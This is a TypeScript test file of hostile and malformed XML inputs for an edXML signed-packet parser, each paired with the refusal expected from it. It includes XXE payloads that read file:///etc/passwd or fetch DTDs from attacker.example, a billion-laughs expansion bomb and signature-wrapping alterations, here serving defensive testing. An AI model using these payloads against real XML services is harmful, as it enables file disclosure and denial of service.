import { invalid, refused, type Attack, type End } from './attack.js';
import { afterSigning, signed } from './genuine-packet.js';

const doctype = refused('xml.doctype');

/** Behind `<!DOCTYPE edXML`. None is read, let alone expanded. */
const subsets: Readonly<Record<string, string>> = {
  nothing: '',
  'an entity': ' [<!ENTITY x "y">]',
  'a billion laughs': ` [<!ENTITY a0 "ha">${Array.from({ length: 30 }, (_, n) => `<!ENTITY a${n + 1} "&a${n};&a${n};">`).join('')}]`,
  'an entity of many megabytes': ` [<!ENTITY x "${'y'.repeat(100_000)}">]`,
  'an entity that is a file': ' [<!ENTITY x SYSTEM "file:///etc/passwd">]',
  'an entity that is elsewhere': ' [<!ENTITY x SYSTEM "http://attacker.example/x">]',
  'a parameter entity': ' [<!ENTITY % x SYSTEM "http://attacker.example/x"> %x;]',
  'an external subset': ' SYSTEM "http://attacker.example/x.dtd"',
  'a public identifier': ' PUBLIC "-//A//B//EN" "http://attacker.example/x.dtd"',
  'defaults of attributes': ' [<!ATTLIST Reference URI CDATA "">]',
  'attributes that are identifiers': ' [<!ATTLIST x Id ID #REQUIRED>]',
  'elements without white space': ' [<!ELEMENT edXML (edXMLEnvelope)>]',
  'a notation': ' [<!NOTATION n SYSTEM "x">]',
};
const doctypes = Object.entries(subsets).map(([name, subset]): Attack => {
  return [`DOCTYPE with ${name}`, afterSigning('<edXML ', `<!DOCTYPE edXML${subset}><edXML `), doctype];
});

const somewhere = (text: string) => afterSigning('</edXML:From>', `</edXML:From>${text}`);
const inValue = (text: string) => afterSigning('V/v', text);
const inAttribute = (text: string) => afterSigning('version="1.0">', `version="${text}">`);

const declarations: readonly Attack[] = [
  ['DOCTYPE before the declaration', () => `<!DOCTYPE edXML>${signed}`, doctype],
  ['DOCTYPE behind the root', () => `${signed}<!DOCTYPE edXML>`, doctype],
  ['DOCTYPE in the header', somewhere('<!DOCTYPE x [<!ENTITY x "y">]>'), doctype],
  ['DOCTYPE in the signature', afterSigning('<SignedInfo>', '<SignedInfo><!DOCTYPE x>'), doctype],
  ['doctype in small letters', afterSigning('<edXML ', '<!doctype edXML><edXML '), refused('xml.markup-malformed')],
  ...[
    'ENTITY x "y"',
    'ELEMENT x ANY',
    'ATTLIST x y CDATA ""',
    'NOTATION x SYSTEM ""',
    '[INCLUDE[',
    '',
    ' ',
    '-x',
    '[cdata[',
  ].map((text): Attack => [`<!${text}>`, somewhere(`<!${text}>`), refused('xml.markup-malformed')]),
  ['XML 1.1', afterSigning('version="1.0"', 'version="1.1"'), refused('xml.version-unsupported')],
  ['XML 1.9', afterSigning('version="1.0"', 'version="1.9"'), refused('xml.version-unsupported')],
  ['XML 2.0', afterSigning('version="1.0"', 'version="2.0"'), refused('xml.declaration-malformed')],
  ['a declaration without version', afterSigning(' version="1.0"', ''), refused('xml.declaration-malformed')],
  [
    'a declaration that goes on and on',
    afterSigning('?>', `${' '.repeat(300)}?>`),
    refused('xml.declaration-malformed'),
  ],
  ['a declaration in other words', afterSigning('?>', ' x="y"?>'), refused('xml.declaration-malformed')],
  ['a space before the declaration', () => ` ${signed}`, refused('xml.declaration-misplaced')],
  ['a comment before the declaration', () => `<!-- -->${signed}`, refused('xml.declaration-misplaced')],
  ['a second declaration', () => signed.replace('?>', '?><?xml version="1.0"?>'), refused('xml.declaration-misplaced')],
  ['a declaration in the header', somewhere('<?xml version="1.0"?>'), refused('xml.declaration-misplaced')],
  ['words before the declaration', () => `1212${signed}`, refused('xml.text-outside-root')],
];

const instruction = refused('xml.processing-instruction');
const instructions: readonly Attack[] = [
  [
    'an instruction before the root',
    afterSigning('<edXML ', '<?xml-stylesheet href="http://attacker.example/x.xsl"?><edXML '),
    instruction,
  ],
  ['an instruction behind the root', () => `${signed}<?x?>`, instruction],
  ['an instruction in the header', somewhere('<?x y?>'), instruction],
  ['an instruction in capitals', somewhere('<?XML version="1.0"?>'), instruction],
  ['an instruction in SignedInfo', afterSigning('<SignedInfo>', '<SignedInfo><?x?>'), instruction],
  ['an instruction in an attachment', afterSigning('</Attachment>', '<?php echo 1 ?></Attachment>'), instruction],
  ['an instruction without a name', somewhere('<? ?>'), instruction],
];

/** What stands for a character, or for more than we would like. */
const references: readonly (readonly [text: string, end: End])[] = [
  ['&x;', refused('xml.entity-unknown')],
  ['&nbsp;', refused('xml.entity-unknown')],
  ['&AMP;', refused('xml.entity-unknown')],
  ['&a0;', refused('xml.entity-unknown')],
  ['&;', refused('xml.reference-malformed')],
  ['& amp;', refused('xml.reference-malformed')],
  ['&amp ;', refused('xml.reference-malformed')],
  ['&%x;', refused('xml.reference-malformed')],
  ['&#;', refused('xml.reference-malformed')],
  ['&#x;', refused('xml.reference-malformed')],
  ['&#X41;', refused('xml.reference-malformed')],
  ['&#-65;', refused('xml.reference-malformed')],
  ['&#65 ;', refused('xml.reference-malformed')],
  ['&#0;', refused('xml.character-illegal')],
  ['&#x0;', refused('xml.character-illegal')],
  ['&#8;', refused('xml.character-illegal')],
  ['&#xB;', refused('xml.character-illegal')],
  ['&#xD800;', refused('xml.character-illegal')],
  ['&#xD83D;&#xDE00;', refused('xml.character-illegal')],
  ['&#xDFFF;', refused('xml.character-illegal')],
  ['&#xFFFE;', refused('xml.character-illegal')],
  ['&#xFFFF;', refused('xml.character-illegal')],
  ['&#x110000;', refused('xml.character-illegal')],
  ['&#4294967361;', refused('xml.character-illegal')],
  [`&#${'9'.repeat(400)};`, refused('xml.character-illegal')],
];
const badReferences = references.flatMap(([text, end]): Attack[] => [
  [`${text.slice(0, 20)} in a value`, inValue(text), end],
  [`${text.slice(0, 20)} in an attribute`, inAttribute(text), end],
  [`${text.slice(0, 20)} in DigestValue`, afterSigning('<DigestValue>', `<DigestValue>${text}`), end],
  [`${text.slice(0, 20)} in an attachment`, afterSigning('JVBE', `JVBE${text}`), end],
]);

const tag = refused('xml.tag-malformed');
const name = refused('xml.name-malformed');
const tags: readonly (readonly [text: string, end: End])[] = [
  ['<x', name],
  ['<x/', tag],
  ['<x y>', tag],
  ['<x y=>', tag],
  ['<x y=z/>', tag],
  ['<x y="1"z="2"/>', tag],
  ['<x/ >', tag],
  ['<x =""/>', name],
  ['< x/>', name],
  ['<>', name],
  ['<1/>', name],
  ['<-/>', name],
  ['<:x/>', name],
  ['<x:/>', name],
  ['<x:y:z/>', name],
  ['<x ":"=""/>', name],
  ['<x y="<"/>', refused('xml.less-than-in-value')],
  ['<x y="1" y="1"/>', refused('xml.attribute-duplicate')],
  ['<x></y>', refused('xml.tag-mismatched')],
  ['<x></X>', refused('xml.tag-mismatched')],
  ['<x></x y="z">', refused('xml.tag-mismatched')],
  ['<x></ x>', refused('xml.tag-mismatched')],
  ['</x>', refused('xml.tag-mismatched')],
  ['<x>', refused('xml.tag-mismatched')],
  [']]>', refused('xml.cdata-end-in-text')],
  ['<!-- -- -->', refused('xml.comment-malformed')],
  ['<!-- --->', refused('xml.comment-malformed')],
  ['<!-->', refused('xml.truncated')],
  ['<!--', refused('xml.truncated')],
  ['<![CDATA[', refused('xml.truncated')],
  ['<x y="', refused('xml.truncated')],
];
const badMarkup = tags.map(([text, end]): Attack => [text, somewhere(text), end]);

const outside = refused('xml.text-outside-root');
const aroundTheRoot: readonly Attack[] = [
  ['a second root', () => `${signed}<edXML/>`, refused('xml.second-root')],
  ['the packet twice', () => signed + signed.slice(signed.indexOf('<edXML ')), refused('xml.second-root')],
  [
    'an evil packet before the genuine one',
    () => `<edXML/>${signed.slice(signed.indexOf('<edXML '))}`,
    refused('packet.namespace-missing'),
  ],
  ['text behind the root', () => `${signed}x`, outside],
  ['CDATA behind the root', () => `${signed}<![CDATA[]]>`, outside],
  ['a reference behind the root', () => `${signed}&#32;`, outside],
  ['an end tag behind the root', () => `${signed}</edXML>`, refused('xml.tag-mismatched')],
  ['nothing at all', () => '', refused('xml.root-missing')],
  ['white space alone', () => ' \n', refused('xml.root-missing')],
  ['a declaration alone', () => '<?xml version="1.0"?>', refused('xml.root-missing')],
  ['a ZIP', () => 'PK\u0003\u0004', outside],
];

/** Well-formed, and still not what was signed. */
const altered = invalid('signature.digest-mismatch');
const alterations: readonly Attack[] = [
  ['another subject', inValue('V/w'), altered],
  ['another recipient', afterSigning('H36.100', 'H36.101'), altered],
  [
    'one recipient more',
    afterSigning(
      '<edXML:To>',
      '<edXML:To><edXML:OrganId>H36.6</edXML:OrganId><edXML:OrganName>x</edXML:OrganName></edXML:To><edXML:To>',
    ),
    altered,
  ],
  ['decomposed letters', () => signed.replace('thử nghiệm', 'thử nghiệm'.normalize('NFD')), altered],
  ['a letter that looks the same', afterSigning('V/v', 'Ѵ/v'), altered],
  ['a space', afterSigning('<edXML:From>', '<edXML:From> '), altered],
  ['a no-break space', afterSigning('thử nghiệm', 'thử\u00a0nghiệm'), altered],
  ['a carriage return by reference', afterSigning('</edXML:From>\n', '</edXML:From>&#13;\n'), altered],
  ['escaped twice', afterSigning('&amp;', '&amp;amp;'), altered],
  ['white space in an attachment', afterSigning('JVBE', 'JVBE '), altered],
  ['an attachment less', () => signed.replace(/<Attachment>[^]*<\/Attachment>/, ''), altered],
  ['an attribute more', inAttribute('1.0" x="'), altered],
  ['another attribute value', inAttribute('1.1'), altered],
  ['an element nobody knows', somewhere('<Vendor/>'), altered],
  ['an element nobody knows, behind the attachments', afterSigning('</edXML>', '<Vendor/></edXML>'), altered],
  [
    'another prefix',
    () =>
      signed
        .replaceAll('edXML:ContentTransferEncoded', 'e:ContentTransferEncoded')
        .replace('<e:ContentTransferEncoded xmlns:edXML', '<e:ContentTransferEncoded xmlns:e'),
    altered,
  ],
];

export const markup: readonly Attack[] = [
  ...doctypes,
  ...declarations,
  ...instructions,
  ...badReferences,
  ...badMarkup,
  ...aroundTheRoot,
  ...alterations,
];
